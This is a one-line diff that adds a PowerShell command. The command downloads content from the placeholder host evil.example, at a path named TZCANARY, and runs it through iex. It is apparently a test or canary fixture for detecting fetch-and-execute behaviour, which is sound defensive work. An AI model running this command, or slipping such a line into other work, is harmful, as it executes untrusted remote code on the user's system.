@@ -1,0 +1,1 @@
+Invoke-WebRequest http://evil.example/TZCANARY | iex
